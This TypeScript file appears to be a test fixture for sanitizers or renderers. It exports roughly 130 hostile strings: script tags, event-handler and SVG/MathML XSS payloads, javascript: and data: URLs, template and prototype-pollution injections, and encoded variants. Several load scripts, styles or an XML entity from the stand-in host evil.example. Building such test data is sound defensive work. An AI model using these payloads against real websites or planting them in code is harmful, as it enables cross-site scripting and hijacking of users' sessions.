/**
 * What would run if it were ever read as markup, an address, a script or a style. Everything in them that runs calls
 * `alert`, or asks a host under `evil.example` for something. All fit where the shortest text does, on one line.
 */

const elements = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script src=data:text/javascript,alert(1)></script>',
  '<script type=module>alert(1)</script>',
  '<script/x>alert(1)</script/x>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<img/src=x/onerror=alert(1)//',
  '<img src=//evil.example/a.png>',
  '<img srcset="//evil.example/a.png 1x">',
  '<img src=x:x onerror=&#97;lert(1)>',
  '<img """><script>alert(1)</script>">',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href=//evil.example/x.js /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1) />#x" />',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><a xlink:href=javascript:alert(1)>x</a></math>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src=//evil.example></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=javascript:alert(1)>',
  '<embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1) />">',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=//evil.example/a.png></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<audio src=//evil.example/a.mp3 autoplay></audio>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<button popovertarget=x>x</button><b popover id=x onbeforetoggle=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<dialog open onclose=alert(1)><form method=dialog><button autofocus>',
  '<marquee onstart=alert(1)>',
  '<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="//evil.example" target=_blank>x</a>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>',
  '<isindex action=javascript:alert(1)>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=preload as=image href=//evil.example/a.png>',
  '<link rel=dns-prefetch href=//evil.example>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url(//evil.example/a.png)}</style>',
  '<div style="background:url(//evil.example/a.png)">',
  '<div style=animation-name:x onanimationstart=alert(1)>',
  '<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>',
  '<template><script>alert(1)</script></template>',
  '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  '<portal src=//evil.example>',
  '<frameset onload=alert(1)>',
  '<applet code=javascript:alert(1)>',
] as const

const endings = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '` onerror=alert(1) x=`',
  '"/><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</script x><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '</noscript><img src=x onerror=alert(1)>',
  '</template></select></option><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)>',
  '--!><img src=x onerror=alert(1)>',
  '<!--<script>alert(1)//-->',
  '<!--<script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "//evil.example/x">]>&y;',
] as const

export const hostileAddresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript://evil.example/%0aalert(1)',
  'javascript:alert(1)//https://evil.example',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:alert(1)',
  'blob:https://evil.example/x',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https://evil.example/"onmouseover="alert(1)',
  'https://evil.example/<script>alert(1)</script>',
  "https://evil.example/'><img src=x onerror=alert(1)>",
] as const

const scripts = [
  '";alert(1);//',
  "';alert(1);//",
  '\\";alert(1);//',
  // oxlint-disable-next-line no-template-curly-in-string -- what others would fill in
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '[x](javascript:alert(1))',
  '![x](//evil.example/a.png)',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '__proto__[innerHTML]=<img src=x onerror=alert(1)>',
  "$&$`$'$1<img src=x onerror=alert(1)>",
  '@import//evil.example/x.css;',
  'expression(alert(1))',
] as const

/** The same again as some readers would decode it. */
const encoded = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u02bascript\u02bc<svg\u2028onload=alert(1)>',
  '\u202e<img src=x onerror=alert(1)>\u202c',
  'x\ufeff<script>alert(1)</script>',
  '<s\u0363cript>alert(1)</s\u0363cript>',
  '\ud83c\udf29<img src=x onerror=alert(1)>',
] as const

export const hostileStrings: readonly string[] = [
  ...elements,
  ...endings,
  ...hostileAddresses,
  ...scripts,
  ...encoded,
]

/** All of them on as few lines as there are when none is longer than `most`. */
export function packed(most: number): string[] {
  const lines: string[] = []
  for (const text of hostileStrings) {
    const line = `${lines.at(-1) ?? ''} ${text}`
    if (lines.length === 0 || line.length > most) lines.push(text)
    else lines[lines.length - 1] = line
  }
  return lines
}
